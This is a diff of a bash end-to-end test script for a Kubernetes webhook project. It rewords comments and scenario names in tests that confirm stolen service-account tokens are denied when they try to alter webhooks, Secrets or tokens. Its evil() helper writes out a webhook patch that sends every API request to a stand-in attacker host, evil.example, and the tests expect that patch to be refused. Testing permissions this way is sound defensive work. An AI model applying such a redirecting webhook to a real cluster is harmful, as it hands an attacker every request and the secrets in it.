@@ -1,23 +1,23 @@
 # SPDX-License-Identifier: Apache-2.0
-# 15-rights.sh - what whoever takes over a server, or the rotator, may do: their tokens, tried.
+# 15-rights.sh - the permissions of a stolen token of a server or of the rotator.
 # shellcheck shell=bash
 
-# forbidden ACCOUNT ARGS...: the API server knows it, and refuses it.
+# forbidden ACCOUNT ARGS...: the API server authenticates the account and denies the request.
 forbidden() {
     person "$@"
     fails
     prints ' is forbidden: User "system:serviceaccount:'
 }
-# rights: of `kubectl auth can-i --list`, without what everybody may.
+# rights: the output of `kubectl auth can-i --list`, without the permissions of all users.
 rights() {
     said=$(awk '$1 != "Resources" && $1 !~ /^selfsubject/ && $1 !~ /^\[/ { gsub(/ +/, " "); print }' <<< "$said" | LC_ALL=C sort)
 }
-# account NAME PERSON: its token, as a pod of it has one.
+# account NAME PERSON: a token of the account, as its pods have.
 account() {
     admin create token "$1" -n $system --duration=10m
     becomes "$2"
 }
-# evil ENTRY: it is asked about everything, somewhere else.
+# evil ENTRY: a webhook that sends all requests to another server.
 evil() {
     echo '{"webhooks": [{"name": "'"$1"'", "clientConfig": {"service": null, "url": "https://evil.example/"},
         "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*/*"], "operations": ["*"]}]}]}'
@@ -32,7 +32,7 @@ type: kubernetes.io/service-account-token
 END
 }
 
-scenario 'rights: a server lists and watches, and gets the Secret of its certificate, and that is all'
+scenario 'rights: a server may only list and watch, and get the Secret of its certificate'
 account curfew server
 person server auth can-i --list -n $system
 rights
@@ -46,7 +46,7 @@ serviceaccounts [] [] [list watch]'
 person server get secret curfew-tls -n $system -o name
 said_is secret/curfew-tls
 
-scenario 'rights: a server cannot change whom the API server asks'
+scenario 'rights: a server cannot change the webhook configurations'
 forbidden server patch mutatingwebhookconfiguration curfew --dry-run=server -p "$(evil mutate.curfew.dev)"
 forbidden server patch validatingwebhookconfiguration curfew --dry-run=server -p "$(evil validate.curfew.dev)"
 for kind in mutatingwebhookconfiguration validatingwebhookconfiguration; do
@@ -54,7 +54,7 @@ for kind in mutatingwebhookconfiguration validatingwebhookconfiguration; do
     forbidden server delete $kind curfew --dry-run=server
 done
 
-scenario 'rights: a server cannot write a Secret, read another one, or make a token'
+scenario 'rights: a server cannot write Secrets, read others, or create tokens'
 forbidden server patch secret curfew-tls -n $system --dry-run=server -p '{"data": {"tls.key": "eA=="}}'
 forbidden server delete secret curfew-tls -n $system --dry-run=server
 forbidden server get secret web-token -n shop
@@ -64,7 +64,7 @@ a_token_secret > "$E2E_WORK/mine.yaml"
 forbidden server create --dry-run=server -f "$E2E_WORK/mine.yaml"
 forbidden server create deployment x --image=x -n $system --dry-run=server
 
-scenario 'rights: the rotator keeps one Secret and two webhook configurations, and that is all'
+scenario 'rights: the rotator may only write one Secret and two webhook configurations'
 account curfew-rotator rotator
 person rotator auth can-i --list -n $system
 rights
@@ -78,7 +78,7 @@ forbidden rotator get pods -A
 forbidden rotator get validatingwebhookconfigurations
 forbidden rotator create token curfew -n $system
 
-scenario 'rights: both pods run as the restricted Pod Security Standard wants them, on one short token each'
+scenario 'rights: all pods meet the restricted Pod Security Standard and have one short-lived token'
 admin get pods -n $system -o jsonpath='{range .items[*]}{.spec.automountServiceAccountToken} {.spec.containers[0].securityContext.readOnlyRootFilesystem} {.spec.volumes[?(@.name=="token")].projected.sources[0].serviceAccountToken.expirationSeconds}{"\n"}{end}'
 said=$(sort -u <<< "$said")
 said_is 'false true 3600'
